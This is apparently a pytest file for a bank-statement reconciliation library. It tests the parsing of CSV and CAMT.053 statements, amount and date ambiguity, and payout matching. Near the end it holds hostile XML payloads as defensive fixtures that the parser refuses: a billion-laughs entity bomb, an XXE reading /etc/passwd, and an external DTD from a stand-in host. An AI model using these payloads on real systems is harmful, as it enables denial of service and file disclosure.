"""Files of banks: what can be read in two ways is asked for, what does not add up is refused, what is hostile is not even begun."""

from __future__ import annotations

import contextlib
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jklg.kit.errors import BadInput, Refusal
from jklg.reconciliation.statements import camt as camt_file
from jklg.reconciliation.statements import figures, read_file
from jklg.reconciliation.statements.actions import LARGEST
from jklg.reconciliation.statements.rules import ByHand, Line, Payout, exact
from tests.reconciliation.statements.files import camt, rows, together

HDFC = rows(
    "HDFC BANK Ltd.,,,,,,",
    "Statement of account 50100012345,,,,,,",
    "Date,Narration,Chq./Ref.No.,Value Dt,Withdrawal Amt.,Deposit Amt.,Closing Balance",
    '25/11/2026,NEFT CR-RAZORPAY SOFTWARE,UTR1597813219,25/11/2026,,"1,23,456.00","1,33,456.00"',
    "26/11/2026,RENT NOVEMBER,000123,26/11/2026,30000.00,,103456.00",
)
SPARKASSE = "\n".join(
    (
        '"Auftragskonto";"Buchungstag";"Valutadatum";"Buchungstext";"Verwendungszweck";"Beguenstigter/Zahlungspflichtiger";"Betrag";"Waehrung"',
        '"DE02";"24.11.26";"24.11.26";"GUTSCHRIFT";"STRIPE PAYOUT po 12";"Stripe Payments";"1.234,56";"EUR"',
        '"DE02";"24.11.26";"25.11.26";"MIETE";"Büro";"Müller GmbH";"-800,00";"EUR"',
    )
).encode("cp1252")


VOLKSBANK = "\r\n".join(
    (
        '"Volksbank eG";;;;;;',
        '"Buchungstag";"Valuta";"Vorgang/Verwendungszweck";"Kundenreferenz";"Währung";"Umsatz";" "',
        '"24.11.2026";"24.11.2026";"Rueckzahlung QWERTY";"";"EUR";"1.234,56";"S"',
        '"25.11.2026";"25.11.2026";"Stripe po 12";"";"EUR";"500,00";"H"',
        '"01.11.2026";;;"Anfangssaldo";"EUR";"1.000,00";"H"',
        '"30.11.2026";;;"Endsaldo";"EUR";"265,44";"H"',
    )
).encode("cp1252")


def refused(data: bytes, **asked: str) -> str:
    with pytest.raises(Refusal) as refusal:
        read_file(data, **({"account": "main", "currency": "INR"} | asked))
    assert refusal.value.sentence
    return refusal.value.code


def test_an_indian_statement_with_columns_for_debit_and_credit() -> None:
    (statement,) = read_file(HDFC, account="main", currency="INR")
    assert [(line.booked_on, line.amount, line.reference) for line in statement.lines] == [
        (date(2026, 11, 25), 12_345_600, "UTR1597813219"),
        (date(2026, 11, 26), -3_000_000, "000123"),
    ]
    assert (statement.opening, statement.closing) == (1_000_000, 10_345_600), "from the balance behind each line"
    assert (statement.from_on, statement.to_on) == (date(2026, 11, 25), date(2026, 11, 26))


def test_a_german_statement_with_semicolons_and_decimal_commas_in_windows_1252() -> None:
    (statement,) = read_file(SPARKASSE, account="DE02", currency="EUR")
    assert [line.amount for line in statement.lines] == [123_456, -80_000]
    assert statement.lines[1].counterparty == "Müller GmbH"
    assert statement.lines[0].booked_on == date(2026, 11, 24)


def test_a_column_without_a_title_says_which_way_the_money_went_and_balances_are_no_money() -> None:
    (statement,) = read_file(VOLKSBANK, account="DE02", currency="EUR")
    assert [line.amount for line in statement.lines] == [-123_456, 50_000]
    assert (statement.opening, statement.closing) == (100_000, 26_544)
    assert statement.from_on == date(2026, 11, 24), "the day of a balance is no day of a line"
    owing = VOLKSBANK.replace(b'"265,44";"H"', b'"265,44";"S"')
    assert refused(owing, currency="EUR") == "statement_does_not_add_up"


@pytest.mark.parametrize(
    "title", ["Dr/Cr", "DR/CR", "D/C", "Type", "Debit/Credit", "Soll/Haben", "Transaction details", ""]
)
@pytest.mark.parametrize(
    ("went", "came"),
    [("DR", "CR"), ("Dr.", "Cr."), ("D", "C"), ("S", "H"), ("Soll", "Haben"), ("DEBIT", "CREDIT"), ("DBIT", "CRDT"), ("Withdrawal", "Deposit")],
)  # fmt: skip
def test_unsigned_amounts_go_the_way_that_the_column_beside_them_says(title: str, went: str, came: str) -> None:
    def amounts(*lines: str) -> list[int]:
        (statement,) = read_file(rows(f"Date,Narration,Amount,{title}", *lines), account="main", currency="INR")
        return [line.amount for line in statement.lines]

    refund, paid = f"25/11/2026,REFUND,5000.00,{went}", f"26/11/2026,NEFT,7000.00,{came}"
    assert amounts(refund, paid) == [-500_000, 700_000]
    assert amounts(refund) == [-500_000], "all of them went"
    assert amounts(refund.replace("5000", "-5000"), paid) == [-500_000, 700_000], "signed, and it agrees"


def test_a_column_that_says_one_thing_of_all_amounts_is_no_direction_when_they_have_signs() -> None:
    data = rows("Date,Narration,Amount,Status", "25/11/2026,REFUND,-5.00,C", "26/11/2026,NEFT,7.00,C")
    (statement,) = read_file(data, account="main", currency="INR")
    assert [line.amount for line in statement.lines] == [-500, 700]


@pytest.mark.parametrize(
    "lines",
    [
        ("25/11/2026,A,-5.00,CR", "26/11/2026,B,7.00,DR"),  # it contradicts the signs
        ("25/11/2026,A,5.00,DR", "26/11/2026,B,-7.00,DR"),  # an unsigned one among signed ones
        ("25/11/2026,A,+5.00,DR",),
        ("25/11/2026,A,5.00 CR,DR",),
        ("25/11/2026,A,5.00,DR", "26/11/2026,B,7.00,"),  # not of every amount
        ("25/11/2026,A,5.00,DEBIT", "26/11/2026,B,7.00,FEE"),  # some say it, and others something else
        ("25/11/2026,A,5.00,", "26/11/2026,B,7.00 CR,"),  # the other went, perhaps
    ],
)
def test_an_amount_that_may_have_come_or_gone_is_refused(lines: tuple[str, ...]) -> None:
    assert refused(rows("Date,Narration,Amount,Dr/Cr", *lines)) == "statement_direction_unclear"


def test_an_amount_that_stands_in_a_column_of_debits_as_well_went() -> None:
    def read(*lines: str) -> list[int]:
        (statement,) = read_file(rows("Date,Amount,Debit,Credit", *lines), account="main", currency="INR")
        return [line.amount for line in statement.lines]

    assert read("25/11/2026,5.00,5.00,", "26/11/2026,7.00,,7.00") == [-500, 700]
    for line in ("25/11/2026,5.00,6.00,", "25/11/2026,-5.00,,5.00"):
        assert refused(rows("Date,Amount,Debit,Credit", line)) == "statement_direction_unclear"


BALANCED = "Date,Narration,Amount,Balance"


@pytest.mark.parametrize(
    "data",
    [
        rows(BALANCED, "01/11/2026,Opening Balance,1000.00,1000.00", "25/11/2026,NEFT,7.00,1007.00"),
        rows(BALANCED, "25/11/2026,NEFT,7.00,1007.00", "30/11/2026,Closing balance as on 30 Nov 2026,1007.00,1007.00"),
        rows(BALANCED, ",Balance brought forward,1000.00,", "25/11/2026,NEFT,7.00,1007.00", ",Total,7.00,"),
        rows(BALANCED, "Opening balance,,1000.00,", "25/11/2026,NEFT,7.00,1007.00"),
        rows(BALANCED, "25/11/2026,NEFT,7.00,1007.00", ",,0.00,"),
    ],
)
def test_a_row_that_says_it_is_a_balance_or_a_sum_is_no_money(data: bytes) -> None:
    (statement,) = read_file(data, account="main", currency="INR")
    assert [line.amount for line in statement.lines] == [700]
    assert (statement.opening, statement.closing) == (100_000, 100_700)


def test_a_balance_needs_no_direction() -> None:
    data = rows("Date,Narration,Amount,Dr/Cr,Balance", "24/11/2026,Opening Balance,1000.00,,1000.00", "25/11/2026,REFUND,7.00,DR,993.00")  # fmt: skip
    (statement,) = read_file(data, account="main", currency="INR")
    assert [line.amount for line in statement.lines] == [-700]


def test_a_shop_that_is_called_as_a_sum_and_a_traveller_who_pays_her_balance_are_money() -> None:
    data = rows("Date,Narration,Amount", "25/11/2026,TOTAL,-5.00", "26/11/2026,BALANCE PAYMENT K7M2PX,7.00", "27/11/2026,NEFT closing balance,9.00")  # fmt: skip
    (statement,) = read_file(data, account="main", currency="INR")
    assert [line.amount for line in statement.lines] == [-500, 700, 900]


def test_days_that_may_be_months_are_asked_for_and_then_believed() -> None:
    data = rows("Date,Description,Amount", "03/04/2026,RENT,-5.00", "04/05/2026,RENT,-5.00")
    assert refused(data) == "date_format_ambiguous"
    (day_first,) = read_file(data, account="a", currency="INR", dates="dmy")
    (month_first,) = read_file(data, account="a", currency="INR", dates="mdy")
    assert (day_first.from_on, month_first.from_on) == (date(2026, 4, 3), date(2026, 3, 4))


@pytest.mark.parametrize(
    ("days", "first"),
    [
        (("03/04/2026", "13/04/2026"), date(2026, 4, 3)),  # one day above 12 tells for all
        (("03/04/2026", "04/13/2026"), date(2026, 3, 4)),
        (("2026-04-03", "2026-04-04"), date(2026, 4, 3)),
        (("03.04.2026", "04.04.2026"), date(2026, 4, 3)),
        (("3 Apr 2026", "04-Apr-26"), date(2026, 4, 3)),
        (("20260403", "20260404"), date(2026, 4, 3)),
        (("2026-04-03 10:15:00", "2026-04-03T10:16:00Z"), date(2026, 4, 3)),
    ],
)
def test_days_that_can_be_read_in_one_way_only_are_not_asked_for(days: tuple[str, str], first: date) -> None:
    (statement,) = read_file(rows("Date,Amount", *(f"{day},-5.00" for day in days)), account="a", currency="INR")
    assert statement.from_on == first


@pytest.mark.parametrize("days", [("13/04/2026", "04/13/2026"), ("23/11/26", "24/11/26"), ("01/02/03", "01/02/04")])
def test_days_that_contradict_each_other_or_have_short_years_are_asked_for(days: tuple[str, str]) -> None:
    assert refused(rows("Date,Amount", *(f"{day},-5.00" for day in days))) == "date_format_ambiguous"


def test_a_thousand_that_may_be_one_is_asked_for_and_then_believed() -> None:
    data = rows("Date;Amount", "2026-04-03;1,234", "2026-04-04;-5")
    assert refused(data, currency="KWD") == "decimal_mark_ambiguous"
    (comma,) = read_file(data, account="a", currency="KWD", decimal="comma")
    (point,) = read_file(data, account="a", currency="KWD", decimal="point")
    assert (comma.lines[0].amount, point.lines[0].amount) == (1_234, 1_234_000)


def test_amounts_that_contradict_each_other_are_refused() -> None:
    assert refused(rows("Date;Amount", "2026-04-03;1.234,50", "2026-04-04;1,234.50")) == "decimal_mark_ambiguous"


@pytest.mark.parametrize(
    ("written", "minor"),
    [
        ("1,234.50", 123_450), ("1,23,456.50", 12_345_650), ("-12.50", -1_250), ("12.50-", -1_250), ("(12.50)", -1_250), ("12.50 DR", -1_250),
        ("12.50 Cr", 1_250), ("\u221212.50", -1_250), ("INR 12.50", 1_250), ("\u20b9 12.50", 1_250), ("1'234.50", 123_450), ("1\u00a0234.50", 123_450), ("", 0), ("7", 700),
    ],
)  # fmt: skip
def test_amounts_as_people_write_them(written: str, minor: int) -> None:
    assert figures.read_amount(written, ".", "INR") == minor


@pytest.mark.parametrize(
    "written", ["12.505", "1,2.50", "12,34.50", "abc", "1e3", "NaN", "12.5.0", "9" * 20, "--5", "0x1"]
)
def test_what_is_no_amount_is_refused_and_never_rounded(written: str) -> None:
    with pytest.raises(BadInput, match="statement_amount_invalid"):
        figures.read_amount(written, ".", "INR")


@given(st.integers(-(10**14), 10**14), st.sampled_from(["INR", "JPY", "KWD"]), st.sampled_from([".", ","]))
def test_every_amount_that_is_written_is_read_as_it_was(minor: int, currency: str, mark: str) -> None:
    from jklg.kit.money import grouped

    text = grouped(minor, currency)
    text = text if mark == "." else text.translate(str.maketrans(".,", ",."))
    assert figures.read_amount(text, mark, currency) == minor


@pytest.mark.parametrize(
    ("code", "data"),
    [
        ("statement_columns_missing", rows("a,b", "1,2")),
        ("statement_columns_missing", b""),
        ("statement_columns_missing", b'"Date,Amount\n2026-04-03,5'),
        ("statement_unreadable", b"\x00\x01\x02PK"),
        ("statement_empty", rows("Date,Amount")),
        ("statement_empty", rows("Date,Amount", "2026-04-03,0.00")),
        ("statement_date_invalid", rows("Date,Amount", "2026-02-30,5.00")),
        ("statement_date_invalid", rows("Date,Amount", "yesterday,5.00")),
        ("statement_date_invalid", rows("Date,Amount", "9999-12-31,5.00")),
        ("statement_amount_invalid", rows("Date,Amount", "2026-02-03,5.0055")),
        ("statement_currency_mixed", rows("Date,Amount,Currency", "2026-02-03,5.00,USD")),
        ("statement_does_not_add_up", rows("Date,Amount,Balance", "2026-02-03,5.00,10.00", "2026-02-04,5.00,16.00")),
        ("statement_date_missing", rows("Date,Description,Amount", "25/11/2026,A,5.00", ",B,7.00", "26/11/2026,C,1.00")),
        ("statement_date_missing", rows("Date,Description,Debit,Credit", "25/11/2026,A,5.00,", ",B,,7.00")),
        ("statement_date_missing", rows("Date,Description,Amount", ",Opening balance trip,7.00")),
        ("statement_balance_unclear", rows("Date,Description,Amount", "25/11/2026,A,5.00", "26/11/2026,Closing balance,7.00")),
        ("statement_balance_unclear", rows("Date,Description,Amount", "25/11/2026,A,5.00", "26/11/2026,Closing balance of my trip,7.00")),
        ("statement_balance_unclear", rows("Date,Description,Amount,Balance", "25/11/2026,A,5.00,5.00", "26/11/2026,Closing balance,7.00,12.00")),
        ("statement_empty", rows("Date,Description,Amount", "01/11/2026,Opening balance,5.00", "30/11/2026,Closing balance,5.00")),
        ("statement_unreadable", b"<html></html>"),
        ("statement_unreadable", b"<Document"),
        ("statement_unreadable", camt([], opening="1.00", closing="1.00", version="09")),
        ("statement_empty", b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>'),
        ("statement_incomplete", camt([], opening="1.00", closing="1.00").replace(b"OPBD", b"XXXX")),
        ("statement_date_invalid", camt([("1.00", "2026-13-01", "", "")], opening="1.00", closing="2.00")),
        ("statement_date_invalid", camt([], opening="1.00", closing="1.00", days=("9999-12-31", "9999-12-31")).replace(b"OPBD", b"PRCD")),
        ("statement_amount_invalid", camt([("1.005", "2026-11-01", "", "")], opening="1.00", closing="2.00")),
        ("statement_amount_invalid", camt([("1e2", "2026-11-01", "", "")], opening="1.00", closing="2.00")),
        ("statement_currency_mixed", camt([("1.00", "2026-11-01", "", "")], opening="1.00", closing="2.00").replace(b'<Ntry><Amt Ccy="INR"', b'<Ntry><Amt Ccy="USD"')),
        ("bank_account_missing", HDFC),
        ("currency_invalid", HDFC),
        ("date_format_invalid", HDFC),
        ("decimal_mark_invalid", HDFC),
        ("statement_too_large", b"x" * (LARGEST + 1)),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_believed_is_refused_with_a_code(code: str, data: bytes) -> None:
    asked = {
        "bank_account_missing": {"account": " "}, "currency_invalid": {"currency": "XXX"}, "date_format_invalid": {"dates": "dym"},
        "decimal_mark_invalid": {"decimal": "dot"},
    }  # fmt: skip
    assert refused(data, **asked.get(code, {})) == code


@pytest.mark.parametrize("version", ["02", "03", "04", "05", "06", "07", "08"])
def test_camt_of_every_version_says_the_same(version: str) -> None:
    data = camt(
        [("99.50", "2026-11-24", "PAYOUT", "STRIPE12345"), ("-9.50", "2026-11-25", "FEES", "NOTPROVIDED")],
        closing="1090.00",
        version=version,
    )
    (statement,) = read_file(data)
    credit, debit = statement.lines
    assert (credit.amount, credit.booked_on, credit.value_on) == (9_950, date(2026, 11, 24), date(2026, 11, 24))
    assert (credit.counterparty, credit.description, credit.reference) == ("Asha Rao", "PAYOUT", "STRIPE12345")
    assert (debit.amount, debit.reference) == (-950, "")
    assert (statement.account, statement.currency, statement.opening, statement.closing) == (
        "DE02120300000000202051",
        "INR",
        100_000,
        109_000,
    )


def test_a_statement_whose_lines_do_not_lead_to_its_closing_balance_is_refused() -> None:
    assert refused(camt([("99.50", "2026-11-24", "", "")], closing="1099.51")) == "statement_does_not_add_up"
    assert read_file(camt([("99.50", "2026-11-24", "", "")], opening="-100.00", closing="-0.50"))[0].closing == -50


def test_what_is_not_booked_yet_is_no_line() -> None:
    (statement,) = read_file(camt([("99.50", "2026-11-24", "", "")], closing="1000.00", status="PDNG"))
    assert statement.lines == []


def test_several_accounts_in_one_file_are_several_statements() -> None:
    one, two = (camt([], opening="1.00", closing="1.00", iban=iban) for iban in ("IBAN1", "IBAN2"))
    assert [each.account for each in read_file(together(one, two))] == ["IBAN1", "IBAN2"]


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&c;</BkToCstmrStmt></Document>"""
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&x;</BkToCstmrStmt></Document>"""
REMOTE = b"""<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://mallory.example/evil.dtd"><Document/>"""


@pytest.mark.parametrize(
    "data", [LAUGHS, OUTSIDE, REMOTE, b'<?xml version="1.0" encoding="no-such"?><Document/>', b"<a>" * 100_000]
)
def test_malice_in_xml_is_not_even_begun(data: bytes) -> None:
    assert refused(data) == "statement_unreadable"


@given(st.binary(max_size=300))
def test_any_bytes_at_all_are_a_statement_or_a_refusal(data: bytes) -> None:
    with contextlib.suppress(Refusal):
        read_file(data, account="a", currency="INR")
    if camt_file.is_camt(data):
        with pytest.raises(Refusal):
            camt_file.read(data)


# -- what a line pays -------------------------------------------------------------------------

DAY = date(2026, 11, 24)


def line(amount: int = 5_000, words: str = "", day: date = DAY) -> Line:
    return Line(booked_on=day, amount=amount, description=words)


PAYOUT = Payout("p", "stripe", 5_000, "INR", DAY, ["STRIPE-12345", "po_1"])  # type: ignore[arg-type]
TRANSFER = ByHand("t", 5_000, "INR", DAY, "bank_transfer", ["K7M2PX", "for the trip"])  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (line(words="PAYOUT STRIPE 12345"), PAYOUT),
        (line(words="TRIP k7m2px THANKS"), TRANSFER),
        (line(words="STRIPE12345 K7M2PX"), None),  # named both
        (line(words="something"), None),
        (line(4_999, words="STRIPE-12345"), None),
        (line(-5_000, words="STRIPE-12345"), None),
        (line(words="STRIPE-12345", day=date(2026, 12, 5)), None),  # eleven days late
        (line(words="STRIPE-12345", day=date(2026, 11, 20)), None),
        (line(words="K7M2PX", day=date(2026, 12, 5)), None),
    ],
)
def test_a_line_is_what_its_sum_its_day_and_its_reference_say_together(said: Line, expected: object) -> None:
    assert exact(said, "INR", [PAYOUT, TRANSFER], []) is expected
    assert exact(said, "USD", [PAYOUT, TRANSFER], []) is None


def test_a_payout_without_its_reference_is_known_by_its_gateway_only_when_nothing_else_fits() -> None:
    said = line(words="STRIPE PAYMENTS UK")
    assert exact(said, "INR", [PAYOUT], []) is PAYOUT
    assert exact(said, "INR", [PAYOUT, TRANSFER], []) is None
    assert exact(said, "INR", [PAYOUT], [line(words="other")]) is None, "another open line fits it as well"
    assert exact(line(words="PAYPAL"), "INR", [PAYOUT], []) is None
    assert exact(line(words="nobody"), "INR", [TRANSFER], []) is None


def test_cash_is_never_a_line_of_its_own_and_what_was_given_back_may_be() -> None:
    cash = ByHand("c", 5_000, "INR", DAY, "cash", ["K7M2PX"])  # type: ignore[arg-type]
    back = ByHand("b", -5_000, "INR", DAY, "", ["K7M2PX"])  # type: ignore[arg-type]
    arrived, gone = (Line(booked_on=DAY, amount=amount, description="trip K7M2PX") for amount in (5_000, -5_000))
    assert exact(arrived, "INR", [cash], []) is None
    assert exact(arrived, "INR", [cash, TRANSFER], []) == TRANSFER
    assert exact(gone, "INR", [cash, back, TRANSFER], []) == back
    assert exact(gone, "INR", [back, back._replace(id="d")], []) is None  # type: ignore[arg-type]
